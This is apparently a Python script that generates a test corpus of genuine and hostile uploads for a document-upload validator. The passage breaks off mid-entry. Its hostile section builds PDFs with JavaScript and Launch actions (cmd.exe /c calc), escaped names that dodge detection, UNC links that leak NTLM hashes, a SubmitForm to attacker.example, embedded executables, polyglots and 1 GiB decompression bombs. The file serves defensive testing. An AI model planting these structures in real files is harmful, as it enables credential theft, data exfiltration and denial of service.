"""Build the upload corpus of ``tests/data/uploads/`` (issue 15, items 2 and 3): genuine files the service must
accept and hostile ones it must refuse, with a manifest saying what each file exercises.

Run: ``.venv/bin/python scripts/build_upload_corpus.py`` (needs reportlab, img2pdf, pikepdf, Pillow). Deterministic:
every random byte comes from a seeded ``random.Random``; reportlab and pikepdf are told not to stamp dates or ids,
so running it twice writes the same bytes.

The heavy files (scans of 1 to 8 MiB, the 1 GiB flate bomb) are not committed: :func:`heavy_files` builds them
from the same functions, and the corpus test writes them under its ``tmp_path``.
"""

from __future__ import annotations

import io
import json
import random
import sys
import zlib
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent / "tests" / "data" / "uploads"
MiB = 1024 * 1024


def _rng(seed: int) -> random.Random:
    return random.Random(seed)  # noqa: S311 - reproducible test data, not a secret


#: name → (bytes, what it exercises, the refusal code expected or None for a genuine file)
Entry = tuple[bytes, str, str | None]


# -- building blocks --------------------------------------------------------------------------------------------


def raw_pdf(objects: Sequence[bytes], *, version: str = "1.4", root: int = 1, extra_trailer: bytes = b"",
            header_junk: bytes = b"", between: dict[int, bytes] | None = None, tail: bytes = b"") -> bytes:  # fmt: skip
    """A PDF written byte by byte (so that names can be escaped as written), with a correct cross-reference table.
    ``objects[i]`` is the body of object ``i + 1``; ``between[i]`` is inserted before object ``i + 1``."""
    out = bytearray(f"%PDF-{version}\n".encode() + header_junk + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        out += (between or {}).get(number - 1, b"")
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f\r\n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n\r\n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, extra_trailer, xref)  # fmt: skip
    return bytes(out) + tail


def stream(data: bytes, extra: bytes = b"", *, compress: bool = True) -> bytes:
    body = zlib.compress(data) if compress else data
    flt = b"/Filter /FlateDecode " if compress else b""
    return b"<< /Length %d %s%s>>\nstream\n" % (len(body), flt, extra) + body + b"\nendstream"


CONTENT = stream(b"BT /F1 12 Tf 72 720 Td (Attestation) Tj ET")
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def one_page(catalog_extra: bytes = b"", page_extra: bytes = b"", more: Sequence[bytes] = (), **kw: object) -> bytes:
    """Catalog 1, Pages 2, Page 3, content 4, font 5, then ``more`` as objects 6, 7…"""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        CONTENT,
        FONT,
        *more,
    ]
    return raw_pdf(objects, **kw)  # type: ignore[arg-type]


def zip_bytes(seed: int = 7) -> bytes:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("payload.exe", date_time=(2020, 1, 1, 0, 0, 0))
        archive.writestr(info, _rng(seed).randbytes(2048))
    return buffer.getvalue()


def noisy_page(width: int, height: int, seed: int, mode: str = "L", noise: int = 60) -> object:
    """A "scanned" page: text-like dark bars on paper, under sensor noise (what makes a scan's JPEG random-looking)."""
    from PIL import Image, ImageDraw

    rng = _rng(seed)
    page = Image.new(mode, (width, height), "white")
    draw = ImageDraw.Draw(page)
    line = max(height // 60, 4)
    for y in range(height // 10, height * 9 // 10, line * 2):
        x = width // 12
        while x < width * 11 // 12:
            word = rng.randint(width // 40, width // 10)
            draw.rectangle([x, y, min(x + word, width * 11 // 12), y + line], fill="black")
            x += word + width // 60
    grain = Image.frombytes("L", (width, height), rng.randbytes(width * height))
    if mode != "L":
        grain = Image.merge(mode, [grain] * len(mode))
    return Image.blend(page, grain, noise / 255)


def jpeg(image: object, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", **options)  # type: ignore[attr-defined]
    return buffer.getvalue()


def png(image: object, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, "PNG", **options)  # type: ignore[attr-defined]
    return buffer.getvalue()


def scan_of_size(target: int, seed: int) -> bytes:
    """A noisy grayscale A4-shaped JPEG of about ``target`` bytes (the sizes scanners produce at 200–600 dpi)."""
    width = 1240
    data = b""
    for _ in range(6):
        height = int(width * 1.414)
        data = jpeg(noisy_page(width, height, seed), quality=92)
        if abs(len(data) - target) < target * 0.08:
            break
        width = int(width * (target / len(data)) ** 0.5)
    return data


def img2pdf_scan(jpegs: Sequence[bytes]) -> bytes:
    import img2pdf

    return img2pdf.convert(list(jpegs), nodate=True, engine=img2pdf.Engine.internal)  # type: ignore[no-any-return]


def reportlab_doc(pages: int = 1, *, compress: bool = True, vera: bool = False, image: bytes | None = None,
                  link: bool = False, outline: bool = False) -> bytes:  # fmt: skip
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.ttfonts import TTFont
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4, pageCompression=1 if compress else 0, invariant=1)
    font = "Helvetica"
    if vera:
        pdfmetrics.registerFont(TTFont("Vera", "Vera.ttf"))
        font = "Vera"
    for number in range(1, pages + 1):
        pdf.setFont(font, 12)
        pdf.drawString(72, 770, f"Attestation d'inscription — page {number} / {pages} — Élève Dupont « œ »")
        for row in range(30):
            pdf.drawString(
                72, 740 - row * 20, f"Ligne {row:02d} : épreuve E{row % 7}, unité U{row % 5}, coef. {row % 4}"
            )
        if image is not None and number == 1:
            pdf.drawImage(ImageReader(io.BytesIO(image)), 300, 100, width=200, height=280)
        if link and number == 1:
            pdf.linkURL("https://www.example.gouv.fr/cyclades", (72, 60, 300, 80))
        if outline:
            pdf.bookmarkPage(f"p{number}")
            pdf.addOutlineEntry(f"Page {number}", f"p{number}", level=0)
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def platypus_doc() -> bytes:
    from reportlab.lib import colors
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.styles import getSampleStyleSheet
    from reportlab.platypus import Paragraph, SimpleDocTemplate, Table, TableStyle

    buffer = io.BytesIO()
    doc = SimpleDocTemplate(buffer, pagesize=A4, invariant=1)
    styles = getSampleStyleSheet()
    rows = [["Épreuve", "Unité", "Mode"]] + [[f"E{i}", f"U{i}", "Ponctuel"] for i in range(60)]
    table = Table(rows)
    table.setStyle(TableStyle([("GRID", (0, 0), (-1, -1), 0.5, colors.grey)]))
    doc.build([Paragraph("Relevé de notes", styles["Title"]), table])
    return buffer.getvalue()


def resave(data: bytes, **options: Any) -> bytes:
    import pikepdf

    with pikepdf.open(io.BytesIO(data)) as pdf:
        buffer = io.BytesIO()
        if "encryption" in options:  # no deterministic id for an encrypted file: a fixed one (AES IVs stay random)
            pdf.save(buffer, static_id=True, **options)
        else:
            pdf.save(buffer, deterministic_id=True, **options)
        return buffer.getvalue()


def with_pikepdf(build: Callable[[Any, Any], None], base: bytes | None = None, **options: Any) -> bytes:
    """Open ``base`` (a one-page PDF by default), let ``build(pdf, pikepdf)`` change it, save it."""
    import pikepdf

    with pikepdf.open(io.BytesIO(base or reportlab_doc())) as pdf:
        build(pdf, pikepdf)
        buffer = io.BytesIO()
        pdf.save(buffer, deterministic_id=True, **options)
        return buffer.getvalue()


def incremental(base: bytes, objects: dict[int, bytes], root: int = 1) -> bytes:
    """``base`` plus an incremental update redefining ``objects`` (a classic xref section with /Prev)."""
    prev = int(base.rsplit(b"startxref", 1)[1].split()[0])
    size = int(base.split(b"/Size", 1)[1].split()[0])
    out = bytearray(base)
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for number, offset in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n\r\n" % (number, offset)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        max(size, max(objects) + 1), root, prev, xref)  # fmt: skip
    return bytes(out)


def flate_bomb_stream(inflated: int) -> bytes:
    """A zlib stream of ``inflated`` zero bytes, built in a second: one fully flushed 1 MiB block repeated."""
    block = bytes(MiB)
    deflater = zlib.compressobj(9)
    first = deflater.compress(block) + deflater.flush(zlib.Z_FULL_FLUSH)
    again = deflater.compress(block) + deflater.flush(zlib.Z_FULL_FLUSH)
    body = first[2:]  # without the zlib header
    adler = 1
    for _ in range(inflated // MiB):
        adler = zlib.adler32(block, adler)
    return first[:2] + body + again * (inflated // MiB - 1) + b"\x03\x00" + adler.to_bytes(4, "big")


def flate_bomb_after(prefix: bytes, inflated: int) -> bytes:
    """A zlib stream of ``prefix`` then ``inflated`` zero bytes (a 1 MiB fully flushed block repeated)."""
    block = bytes(MiB)
    deflater = zlib.compressobj(9)
    head = deflater.compress(prefix) + deflater.flush(zlib.Z_FULL_FLUSH)
    again = deflater.compress(block) + deflater.flush(zlib.Z_FULL_FLUSH)
    adler = zlib.adler32(prefix)
    for _ in range(inflated // MiB):
        adler = zlib.adler32(block, adler)
    return head + again * (inflated // MiB) + b"\x03\x00" + adler.to_bytes(4, "big")


def xref_stream_pdf(objects: Sequence[bytes], in_stream: Sequence[int] = (), *, object_stream: bytes | None = None,
                    xref_data: Callable[[bytes], bytes] | None = None, trailer: bytes = b"") -> bytes:  # fmt: skip
    """A PDF 1.5 with a cross-reference stream: ``objects[i]`` is object ``i + 1``, written in the body unless its
    number is in ``in_stream`` (then it is stored in ``object_stream``, object ``len(objects) + 1``). ``xref_data``
    compresses the xref stream's data (None: not compressed)."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    entries: list[tuple[int, int, int]] = [(0, 0, 65535)]
    stream_number = len(objects) + 1
    for number, body in enumerate(objects, start=1):
        if number in in_stream:
            entries.append((2, stream_number, list(in_stream).index(number)))
        else:
            entries.append((1, len(out), 0))
            out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    if object_stream is not None:
        entries.append((1, len(out), 0))
        out += b"%d 0 obj\n" % stream_number + object_stream + b"\nendobj\n"
    xref_number = len(entries)
    entries.append((1, len(out), 0))
    table = b"".join(bytes([t]) + f.to_bytes(4, "big") + g.to_bytes(2, "big") for t, f, g in entries)
    data = xref_data(table) if xref_data else table
    flt = b"/Filter /FlateDecode " if xref_data else b""
    start = len(out)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R %s%s/Length %d >>\nstream\n" % (
        xref_number, xref_number + 1, trailer, flt, len(data))  # fmt: skip
    out += data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


PAGE_OBJECTS = (
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>",
)


def object_stream_bomb(
    inflated: int, *, encrypt: Callable[[bytes], bytes] | None = None, trailer: bytes = b"", disguised: bool = False
) -> bytes:
    """Catalog, Pages and Page stored in an object stream (object 4) whose data goes on with ``inflated`` zero
    bytes; ``encrypt`` turns the stream's data into what an encrypted file holds (``trailer``: its /Encrypt).
    ``disguised``: the stream says ``/Subtype /Image`` and its ``/Type`` is a reference to the name ``/ObjStm``
    (object 4; the stream is then object 5): qpdf resolves it and reads the objects."""
    bodies, offsets = b"", []
    for body in PAGE_OBJECTS:
        offsets.append(len(bodies))
        bodies += body + b"\n"
    header = b" ".join(b"%d %d" % (n, o) for n, o in enumerate(offsets, start=1)) + b"\n"
    data = flate_bomb_after(header + bodies, inflated)
    data = encrypt(data) if encrypt else data
    kind = b"4 0 R /Subtype /Image" if disguised else b"/ObjStm"
    objstm = b"<< /Type %s /N 3 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        kind, len(header), len(data)) + data + b"\nendstream"  # fmt: skip
    objects = (*PAGE_OBJECTS, b"/ObjStm") if disguised else PAGE_OBJECTS
    return xref_stream_pdf(objects, (1, 2, 3), object_stream=objstm, trailer=trailer)


def xref_stream_bomb(inflated: int) -> bytes:
    """A cross-reference stream whose data goes on with ``inflated`` zero bytes (qpdf reads it inside open)."""
    return xref_stream_pdf(PAGE_OBJECTS, xref_data=lambda table: flate_bomb_after(table, inflated))


# -- genuine ----------------------------------------------------------------------------------------------------


def genuine_files() -> dict[str, Entry]:
    from PIL import Image

    from cyclades_adapters.documents import SimplePdfRenderer
    from cyclades_core.ports.files import DocumentContent

    small_scan = jpeg(noisy_page(620, 877, seed=1), quality=85)
    photo = noisy_page(400, 300, seed=2, mode="RGB", noise=90)
    files: dict[str, Entry] = {}

    def add(name: str, data: bytes, what: str) -> None:
        files[name] = (data, what, None)

    base = reportlab_doc(3)
    add("reportlab_compressed.pdf", base, "reportlab canvas, 3 pages, compressed content streams, PDF 1.4")
    add("reportlab_uncompressed.pdf", reportlab_doc(2, compress=False), "reportlab canvas, uncompressed streams")
    add("reportlab_vera.pdf", reportlab_doc(2, vera=True), "reportlab with the Vera TrueType font embedded (subset)")
    add("reportlab_image.pdf", reportlab_doc(1, image=small_scan), "reportlab page holding a noisy JPEG image")
    add("reportlab_link_outline.pdf", reportlab_doc(4, link=True, outline=True),
        "https link annotation (URI action) and an outline of GoTo bookmarks")  # fmt: skip
    add("reportlab_platypus_table.pdf", platypus_doc(), "platypus document: title and a 61-row table over pages")
    add("reportlab_multipage_30.pdf", reportlab_doc(30, vera=True), "30 pages, Vera font")
    add("simple_renderer.pdf", SimplePdfRenderer().render(DocumentContent(("Confirmation",), ("N° 1",), ())),
        "the library's own dependency-free renderer")  # fmt: skip
    add("img2pdf_scan_small.pdf", img2pdf_scan([small_scan]), "img2pdf: one noisy grayscale JPEG page")
    add("img2pdf_scan_3_pages.pdf",
        img2pdf_scan([jpeg(noisy_page(620, 877, seed=s), quality=80) for s in (3, 4, 5)]),
        "img2pdf: three scanned pages")  # fmt: skip
    add("img2pdf_scan_rgb.pdf", img2pdf_scan([jpeg(noisy_page(700, 990, seed=6, mode="RGB"), quality=80)]),
        "img2pdf: colour scan (RGB JPEG)")  # fmt: skip
    add("img2pdf_png_page.pdf", img2pdf_scan([png(noisy_page(500, 700, seed=8, noise=30))]),
        "img2pdf from a PNG: a FlateDecode image with a PNG predictor")  # fmt: skip
    cmyk = jpeg(noisy_page(400, 560, seed=9, mode="RGB").convert("CMYK"), quality=80)  # type: ignore[attr-defined]
    add("img2pdf_cmyk.pdf", img2pdf_scan([cmyk]), "img2pdf: CMYK JPEG")
    add("pikepdf_v14_no_objstm.pdf", resave(base, force_version="1.4", object_stream_mode=_mode("disable")),
        "pikepdf save, PDF 1.4, no object streams")  # fmt: skip
    add("pikepdf_v15_objstm.pdf", resave(base, force_version="1.5", object_stream_mode=_mode("generate")),
        "pikepdf save, PDF 1.5, object streams and a cross-reference stream")  # fmt: skip
    add("pikepdf_v17.pdf", resave(base, force_version="1.7"), "pikepdf save, PDF 1.7")
    add("pikepdf_v20_objstm.pdf", resave(base, force_version="2.0", object_stream_mode=_mode("generate")),
        "pikepdf save, PDF 2.0 with object streams")  # fmt: skip
    add("pikepdf_v20_plain.pdf", resave(base, force_version="2.0", object_stream_mode=_mode("disable")),
        "pikepdf save, PDF 2.0, classic xref")  # fmt: skip
    add("pikepdf_linearized.pdf", resave(base, linearize=True), "linearized (fast web view): two xref sections")
    add("pikepdf_qdf.pdf", resave(base, qdf=True, object_stream_mode=_mode("disable")),
        "qpdf QDF mode: uncompressed, with %% comments between objects")  # fmt: skip
    add("pikepdf_scan_objstm.pdf", resave(img2pdf_scan([small_scan]), object_stream_mode=_mode("generate")),
        "an img2pdf scan re-saved with object streams")  # fmt: skip
    add("owner_password_only.pdf", _owner_only(base),
        "encrypted with an owner password only (AES-256, printing allowed): any reader opens it")  # fmt: skip
    add("incremental_update_info.pdf",
        incremental(one_page(more=[b"<< /Title (v1) >>"], extra_trailer=b"/Info 6 0 R "), {6: b"<< /Title (v2) >>"}),
        "an incremental update that replaces the Info dictionary (the old one is inspected too)")  # fmt: skip
    add("incremental_update_catalog.pdf", incremental(one_page(b"/OpenAction [3 0 R /XYZ null null 0] "), {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] /Lang (fr-FR) >>"}),
        "an update rewriting a LibreOffice-style catalog, as signing or filling a form does")  # fmt: skip
    add("raw_minimal.pdf", one_page(), "a minimal hand-structured PDF with a classic xref")
    font_like = _rng(15).randbytes(300_000)
    font_like = font_like[:1000] + b"PK\x03\x04" + font_like[1000:150_000] + b"PK\x05\x06" + font_like[150_000:]
    add(
        "font_program_with_zip_bytes.pdf",
        one_page(more=[stream(font_like, b"/Length1 %d " % len(font_like))]),
        "a 300 kB font-like program holding PK\\x03\\x04 and PK\\x05\\x06 by chance (no archive structure)",
    )
    add("lzw_image.pdf", one_page(more=[
        stream(_tiff_lzw(noisy_page(300, 400, seed=14)), b"/Type /XObject /Subtype /Image /Width 300 /Height 400 "
               b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /LZWDecode ", compress=False)]),
        "an old scanner's LZWDecode image (PDF 1.1 era compression)")  # fmt: skip
    add("openaction_destination.pdf", one_page(b"/OpenAction [3 0 R /XYZ null null 0] /PageMode /UseOutlines "),
        "an OpenAction that is only a destination, as LibreOffice writes it")  # fmt: skip
    add("link_without_scheme.pdf", one_page(page_extra=b"/Annots [6 0 R]", more=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (www.education.gouv.fr) >> >>"]),
        "a link typed without a scheme, as Word writes it")  # fmt: skip
    add("openaction_goto.pdf", one_page(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> "),
        "an OpenAction GoTo to the first page, as pdfTeX's hyperref writes it")  # fmt: skip
    add("scan_gray.jpg", small_scan, "noisy grayscale JPEG scan")
    add("scan_progressive.jpg", jpeg(noisy_page(620, 877, seed=10), quality=85, progressive=True),
        "progressive JPEG")  # fmt: skip
    add("photo_rgb.jpg", jpeg(photo, quality=90), "noisy colour photo")
    add("photo_exif.jpg", jpeg(photo, quality=75, exif=_exif()), "JPEG with an EXIF block")
    add("photo_cmyk.jpg", cmyk, "CMYK JPEG")
    add("photo_multi_picture.jpg", _mpo(photo), "a Multi-Picture JPEG (MPF): a second picture after the first, "
        "as phones store depth maps and Ultra HDR gain maps")  # fmt: skip
    add("scan_gray.png", png(noisy_page(620, 877, seed=11, noise=40)), "noisy grayscale PNG scan")
    add("photo_rgb.png", png(photo), "noisy colour PNG")
    add("palette.png", png(photo.convert("P")), "palette PNG")  # type: ignore[attr-defined]
    add("interlaced.png", _interlaced_png(), "Adam7-interlaced PNG")
    add("gray16.png", png(Image.new("I;16", (300, 200), 4000)), "16-bit grayscale PNG")
    add("rgba.png", png(photo.convert("RGBA")), "PNG with an alpha channel")  # type: ignore[attr-defined]
    return files


def heavy_files() -> dict[str, Entry]:
    """Built at test time (not committed): img2pdf scans of 1–8 MiB of noisy JPEG, and the 1 GiB flate bomb."""
    files: dict[str, Entry] = {}
    for mib in (1, 2, 4, 5, 8):
        data = img2pdf_scan([scan_of_size(mib * MiB, seed=100 + mib)])
        files[f"img2pdf_scan_{mib}mib.pdf"] = (data, f"img2pdf scan of about {mib} MiB of noisy JPEG", None)
    files["scan_3mib.jpg"] = (scan_of_size(3 * MiB, seed=200), "a 3 MiB noisy JPEG scan", None)
    bomb = flate_bomb_stream(1024 * MiB)
    files["flate_bomb_1gib.pdf"] = (
        one_page(more=[b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream"]),
        f"a {len(bomb) // 1000} kB stream that inflates to 1 GiB", "inflated_too_large",
    )  # fmt: skip
    data = object_stream_bomb(1024 * MiB)
    files["object_stream_bomb_1gib.pdf"] = (
        data, f"an object stream of {len(data) // 1000} kB holding the page objects, then 1 GiB of zeros (qpdf "
        "inflates it whole when an object in it is read)", "inflated_too_large",
    )  # fmt: skip
    data = xref_stream_bomb(1024 * MiB)
    files["xref_stream_bomb_1gib.pdf"] = (
        data, f"a cross-reference stream of {len(data) // 1000} kB inflating to 1 GiB (qpdf inflates it inside "
        "open)", "inflated_too_large",
    )  # fmt: skip
    return files


def _mode(name: str) -> object:
    import pikepdf

    return getattr(pikepdf.ObjectStreamMode, name)


def _owner_only(data: bytes) -> bytes:
    import pikepdf

    return resave(data, encryption=pikepdf.Encryption(owner="proprietaire", user="", R=6))


def _mpo(image: Any) -> bytes:
    buffer = io.BytesIO()
    gain_map = image.convert("L").resize((image.width // 4, image.height // 4)).convert("RGB")
    image.save(buffer, "MPO", save_all=True, append_images=[gain_map], quality=85)
    return buffer.getvalue()


def _tiff_lzw(image: Any) -> bytes:
    """The LZW bytes of one TIFF strip, as Pillow writes it (TIFF's LZW is PDF's, EarlyChange 1)."""
    from PIL import Image

    buffer = io.BytesIO()
    image.save(buffer, "TIFF", compression="tiff_lzw", tiffinfo={278: image.height})
    with Image.open(io.BytesIO(buffer.getvalue())) as tiff:
        tags = tiff.tag_v2  # type: ignore[attr-defined]
        offset, count = tags[273][0], tags[279][0]
    return buffer.getvalue()[offset : offset + count]


def _exif() -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = "Scanner SA"
    exif[0x0110] = "Modèle 42"
    return exif.tobytes()


def _interlaced_png() -> bytes:
    """Pillow does not write interlaced PNGs: the chunks are written here (Adam7 passes of a gradient)."""
    width, height = 64, 48

    def pixel(x: int, y: int) -> bytes:
        return bytes(((x * 4) & 255, (y * 5) & 255, (x * y) & 255))

    passes = [(0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2)]
    raw = bytearray()
    for x0, y0, dx, dy in passes:
        xs = range(x0, width, dx)
        for y in range(y0, height, dy):
            if xs:
                raw += b"\x00" + b"".join(pixel(x, y) for x in xs)

    def chunk(kind: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes((8, 2, 0, 0, 1))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(raw))) + chunk(b"IEND", b"")
    )


# -- hostile ----------------------------------------------------------------------------------------------------

ACTIVE = "suspicious_content"
FOREIGN = "foreign_content"
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def hostile_files() -> dict[str, Entry]:
    files: dict[str, Entry] = {}

    def add(name: str, data: bytes, what: str, code: str = ACTIVE) -> None:
        files[name] = (data, what, code)

    genuine = reportlab_doc()
    good_jpeg_for_pdf = jpeg(noisy_page(100, 100, seed=13, mode="RGB"))
    add("js_openaction.pdf", one_page(b"/OpenAction " + JS), "OpenAction running JavaScript (pdfid /JS, /OpenAction)")
    add("js_names_tree.pdf", one_page(b"/Names << /JavaScript 6 0 R >>", more=[b"<< /Names [(a) 7 0 R] >>", JS]),
        "document-level JavaScript in the /Names tree")  # fmt: skip
    add("escaped_javascript.pdf", one_page(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        "name escapes: /J#61vaScript and /J#53 decode to /JavaScript and /JS")  # fmt: skip
    add("escaped_openaction.pdf", one_page(b"/#4FpenAction << /S /URI /URI (https://tracker.example/opened) >>"),
        "name escape: /#4FpenAction is /OpenAction, calling home when the file is opened")  # fmt: skip
    add("escaped_aa.pdf", one_page(page_extra=b"/#41A << /O 6 0 R >>", more=[b"<< /S /GoTo /D [3 0 R /Fit] >>"]),
        "name escape: /#41A is /AA on a page")  # fmt: skip
    add(
        "escaped_all_hex.pdf",
        one_page(
            b"/#4F#70#65#6E#41#63#74#69#6F#6E << /#53 /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (app.alert\\(1\\)) >>"
        ),
        "every character of the names escaped",
    )
    add("page_aa_js.pdf", one_page(page_extra=b"/AA << /O " + JS + b" >>"), "page open action (AA /O) with JS")
    add("annotation_aa.pdf", one_page(page_extra=b"/Annots [6 0 R]", more=[
        b"<< /Type /Annot /Subtype /Widget /Rect [0 0 100 100] /P 3 0 R /AA << /E " + JS + b" >> >>"]),
        "an annotation's additional actions (mouse enter)")  # fmt: skip
    add("field_aa.pdf", one_page(b"/AcroForm << /Fields [6 0 R] >>", b"/Annots [7 0 R]", more=[
        b"<< /FT /Tx /T (nom) /Kids [7 0 R] /AA << /K " + JS + b" >> >>",
        b"<< /Type /Annot /Subtype /Widget /Rect [0 0 100 20] /P 3 0 R /Parent 6 0 R >>"]),
        "a form field's keystroke action (AcroForm /AA /K)")  # fmt: skip
    add("launch.pdf", one_page(page_extra=b"/Annots [6 0 R]", more=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /Win << /F (cmd.exe) "
        b"/P (/c calc) >> >> >>"]), "Launch action (CVE-2010-1240 style, Didier Stevens' /Launch)")  # fmt: skip
    add("launch_escaped.pdf", one_page(b"/OpenAction << /S /L#61unch /F (calc.exe) >>"),
        "Launch with an escaped name, in an OpenAction")  # fmt: skip
    add("embedded_files.pdf", with_pikepdf(_attach, genuine), "an EmbeddedFiles name tree (pikepdf attachments)")
    add(
        "file_attachment_annotation.pdf",
        one_page(
            page_extra=b"/Annots [6 0 R]",
            more=[
                b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 7 0 R >>",
                b"<< /Type /Filespec /F (x.zip) /EF << /F 8 0 R >> >>",
                stream(zip_bytes(), b"/Type /EmbeddedFile "),
            ],
        ),
        "a FileAttachment annotation with an embedded ZIP",
    )
    add("orphan_embedded_file.pdf", one_page(more=[stream(b"MZ\x90\x00 payload", b"/Type /EmbeddedFile ")]),
        "an /EmbeddedFile stream referenced by nothing")  # fmt: skip
    add("xfa.pdf", one_page(b"/AcroForm << /Fields [] /XFA 6 0 R /NeedsRendering true >>", more=[
        stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>")]),
        "an XFA form in the AcroForm (CVE-2010-0188 and XFA script)")  # fmt: skip
    add("richmedia.pdf", one_page(page_extra=b"/Annots [6 0 R]", more=[
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [] >> >> >>"
    ]), "a RichMedia (Flash) annotation")  # fmt: skip
    add("screen_rendition.pdf", one_page(page_extra=b"/Annots [6 0 R]", more=[
        b"<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100] /A << /S /Rendition /OP 0 >> >>"]),
        "a Screen annotation with a Rendition action")  # fmt: skip
    add("gotor.pdf", one_page(page_extra=b"/Annots [6 0 R]", more=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf)"
        b" /D [0 /Fit] >> >>"]), "GoToR to a UNC path (leaks NTLM hashes)")  # fmt: skip
    add("gotoe.pdf", one_page(page_extra=b"/Annots [6 0 R]", more=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /GoToE /T << /R /C /N (x) >> >> >>"]),
        "GoToE into an embedded document")  # fmt: skip
    add("submitform.pdf", one_page(page_extra=b"/Annots [6 0 R]", more=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /SubmitForm /F << /FS /URL "
        b"/F (https://attacker.example/c) >> >> >>"]), "SubmitForm sending the form out")  # fmt: skip
    add("importdata.pdf", one_page(b"/OpenAction << /S /ImportData /F (data.fdf) >>"), "ImportData action")
    add("uri_javascript.pdf", one_page(page_extra=b"/Annots [6 0 R]", more=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>"]),
        "a link whose URI is javascript:")  # fmt: skip
    add("uri_unc_path.pdf", one_page(page_extra=b"/Annots [6 0 R]", more=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (\\\\\\\\attacker\\\\share) >> >>"]),
        "a link to a UNC path (an NTLM hash leak when followed)")  # fmt: skip
    add("uri_file.pdf", one_page(page_extra=b"/Annots [6 0 R]", more=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (file:///C:/Windows/x.exe) >> >>"]),
        "a link whose URI is file:")  # fmt: skip
    add("js_in_object_stream.pdf", resave(one_page(b"/OpenAction 6 0 R", more=[JS]),
                                          object_stream_mode=_mode("generate")),
        "the JavaScript action inside a compressed object stream")  # fmt: skip
    add("js_in_flate_stream.pdf", one_page(b"/OpenAction << /S /JavaScript /J#53 6 0 R >>", more=[
        stream(b"app.alert(1); this.exportDataObject({cName: 'x', nLaunch: 2});")]),
        "JavaScript code in a FlateDecode stream, referenced by an escaped /JS")  # fmt: skip
    add("zip_appended.pdf", genuine + zip_bytes(), "a PDF+ZIP polyglot: a ZIP after %%EOF", FOREIGN)
    add("zip_in_stream.pdf", one_page(more=[stream(zip_bytes())]), "a ZIP inside a FlateDecode stream")
    add(
        "zip_inside_content_stream.pdf",
